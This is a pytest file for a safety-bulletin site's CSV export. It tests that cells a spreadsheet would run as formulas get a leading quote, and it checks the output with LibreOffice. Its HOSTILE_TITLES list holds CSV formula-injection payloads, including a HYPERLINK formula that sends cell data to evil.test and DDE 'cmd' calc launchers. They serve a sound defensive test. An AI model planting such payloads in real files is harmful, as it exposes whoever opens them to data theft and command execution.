"""directives.csv and `bulletins due --format csv`: UTF-8 with a BOM, CRLF, every value back as
written (less the quote put before what a spreadsheet would run as a formula), read by Python's
csv and by a real spreadsheet (LibreOffice Calc, headless) whose cells openpyxl reads back."""

import csv
import datetime as dt
import io
import json
import os
import shutil
import subprocess

import openpyxl
import pytest
from hypothesis import given, settings, strategies as st

from helpers import build

from safety_bulletins.outputs.spreadsheet import FORMULA_STARTS, code_columns, csv_text, directive_columns, safe_cell

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.test/?"&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1 全角等号",
    "＠SUM(1)",
    "   =1+1 after spaces",
    "'quoted already",
    "消防通道 <b>bold</b>, \"quoted\"; semi",
]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠A1",
                                  " =1", "\u3000=1", "\n@x", "\u00a0+1", "'x", "\tplain", "\rplain"])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value, cell", [
    ("Clear the exits", "Clear the exits"), ("消防", "消防"), ("a=b", "a=b"), ("", ""), (None, ""),
    (True, "true"), (False, "false"), (-3, -3), (["energy", "property"], "energy; property"), (["-x"], "'-x"),
])
def test_other_values_are_written_as_they_are(value, cell):
    assert safe_cell(value) == cell


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 BOM: Excel would read the file as the Windows code page"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def unquote(cell: str) -> str:
    """What the guide tells a reader: one leading quote was added; remove it."""
    return cell[1:] if cell.startswith("'") else cell


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(blacklist_categories=("Cs",)), max_size=40))
def test_any_title_survives_and_never_starts_a_formula(title):
    rows = read_csv(csv_text(["id", "title"], [{"id": "D-1", "title": title}]).encode("utf-8"))
    assert rows[1] == ["D-1", rows[1][1]] and len(rows) == 2
    cell = rows[1][1]
    assert unquote(cell) == title
    assert cell.lstrip(" \t\r\n\u00a0\u3000\ufeff")[:1] not in FORMULA_STARTS - {"'"}


def meeting(titles: list[str]) -> str:
    blocks = "".join(
        f"/// directive | {title}\n    id: X-{n}\n    units: [property]\n    support: [energy, safety-env]\n"
        f"    deadline: 2021-06-{10 + n}\n\n-1 line of text\n=SUM(A1) on the second line\n///\n\n"
        for n, title in enumerate(titles, 1))
    return f"---\ntitle: \"=cmd| hostile bulletin\"\ndate: 2021-05-25\ntype: minutes\n---\n{blocks}"


FOLLOW_UP = """\
---
title: Re-inspection
date: 2021-06-01
type: inspection
---
/// follow-up | =Extended, "really"
    directive: X-1
    deadline: 2021-07-15
    reason: -parts on order, 备件

Ordered.
///
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from helpers import SITE_YML, UNITS_YML, write_tree
    project = write_tree(tmp_path_factory.mktemp("csv") / "project", {
        "mkdocs.yml": SITE_YML, "docs/index.md": "# Home\n", "bulletins/units.yml": UNITS_YML,
        "bulletins/2021/2021-05-25-meeting.md": meeting(HOSTILE_TITLES),
        "bulletins/2021/2021-06-01-re-inspection.md": FOLLOW_UP,
    })
    return build(project, as_of="2021-06-12")


def expected_cells(record: dict) -> list[str]:
    """A directives.json record as the CSV's cells must give it back (after `unquote`)."""
    flat = {**record, **{f"bulletin_{k}": v for k, v in record["bulletin"].items()}}
    cells = []
    for name in directive_columns()[:-1]:  # the history apart: a line per follow-up, in words
        value = flat.get(name)
        if isinstance(value, bool):
            cells.append("true" if value else "false")
        elif isinstance(value, list):
            cells.append("; ".join(value))
        elif isinstance(value, dict):  # owners by unit, escalation's parts
            cells.append("; ".join(f"{key}: {part}" for key, part in value.items() if part is not None))
        else:
            cells.append("" if value is None else str(value))
    return cells


def test_directives_csv_holds_every_value_of_directives_json(hostile_site):
    data = (hostile_site / "directives.csv").read_bytes()
    assert b"\r\n" in data and data.count(b"\r\n") == len(read_csv(data))  # CRLF after every row
    rows = read_csv(data)
    assert rows[0] == [*directive_columns(), *code_columns()]
    records = json.loads((hostile_site / "directives.json").read_text(encoding="utf-8"))["directives"]
    assert [r[0] for r in rows[1:]] == [r["id"] for r in records]
    for row, record in zip(rows[1:], records):
        *cells, history = [unquote(c) for c in row[:-len(code_columns())]]
        assert cells == expected_cells(record)
        codes = (record["units"], record["support"], record["status"], record["bucket"], record["grade"],
                 record["accepted_by"], record["bulletin"]["type"], record["lead"], record["accepting_unit"],
                 record["supervisor"], record["owners"])
        assert [unquote(c) for c in row[-len(code_columns()):]] == [
            "; ".join(c) if isinstance(c, list) else
            "; ".join(f"{unit}: {person}" for unit, person in c.items()) if isinstance(c, dict) else c or ""
            for c in codes]
        assert [line.rsplit(" <", 1)[1] for line in history.split("\n") if line] == \
               [h["url"] + ">" for h in record["history"]]
        for cell in row:
            assert cell.lstrip(" \t\r\n\u00a0\u3000")[:1] not in FORMULA_STARTS - {"'"}
    first = dict(zip(rows[0], rows[1]))
    assert first["title"] == "'" + HOSTILE_TITLES[0] and first["bulletin_title"] == "'=cmd| hostile bulletin"
    assert first["text"].startswith("'-1 line of text\n=SUM(A1)")
    assert first["history"] == ("2021-06-01 =Extended, \"really\": deadline extended from 2021-06-11 to 2021-07-15 "
                                "(-parts on order, 备件) <bulletins/2021/2021-06-01-re-inspection/#sb-fu-X-1>")
    register = (hostile_site / "directives" / "index.html").read_text(encoding="utf-8")
    assert '<a href="../directives.json">' in register and '<a href="../directives.csv" download>' in register


def soffice() -> str:
    """LibreOffice, from Debian's libreoffice-calc-nogui (./dev test installs it)."""
    path = shutil.which("soffice")
    if path is None:
        if os.environ.get("CI") == "true":
            pytest.fail("soffice is missing: install libreoffice-calc-nogui (./dev test does)")
        pytest.skip("LibreOffice is not installed (apt-get install --no-install-recommends libreoffice-calc-nogui)")
    return path


# LibreOffice's CSV import: comma, double quote, UTF-8 (76), from line 1, standard cell formats,
# default language, quoted fields not forced to text, special numbers (dates) detected; token 13
# evaluates formulas, as a spreadsheet does when it opens a CSV.
CSV_IMPORT = "Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1,true"


def as_text(value) -> str:
    """A cell as openpyxl gives it, back to the text of the CSV."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dt.datetime):
        return value.date().isoformat()
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return "" if value is None else str(value)


def test_libreoffice_opens_directives_csv_with_every_value_and_no_formula(hostile_site, tmp_path):
    shutil.copy(hostile_site / "directives.csv", tmp_path / "directives.csv")
    # the control: without the quotes, this spreadsheet does run a formula
    (tmp_path / "control.csv").write_bytes("\ufeffa,b\r\n=1+1,x\r\n".encode("utf-8"))
    result = subprocess.run(
        [soffice(), f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", f"--infilter={CSV_IMPORT}",
         "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(tmp_path / "directives.csv"),
         str(tmp_path / "control.csv")],
        capture_output=True, text=True, timeout=180)
    assert (tmp_path / "out" / "directives.xlsx").is_file(), result.stdout + result.stderr
    control = openpyxl.load_workbook(tmp_path / "out" / "control.xlsx").active
    assert control["A2"].data_type == "f" and control["A2"].value == "=1+1"
    sheet = openpyxl.load_workbook(tmp_path / "out" / "directives.xlsx").active
    rows = read_csv((hostile_site / "directives.csv").read_bytes())
    cells = list(sheet.iter_rows())
    assert len(cells) == len(rows)
    for row, sheet_row in zip(rows, cells):
        assert [c.data_type for c in sheet_row if c.data_type == "f"] == []
        assert [as_text(c.value) for c in sheet_row][:len(row)] == row
    titles = [sheet.cell(row=n, column=2).value for n in range(2, len(rows) + 1)]
    records = json.loads((hostile_site / "directives.json").read_text(encoding="utf-8"))["directives"]
    assert [unquote(t) for t in titles] == [r["title"] for r in records]  # the header's spaces are the parser's
    assert unquote(titles[0]) == HOSTILE_TITLES[0] and titles[0].startswith("'=")
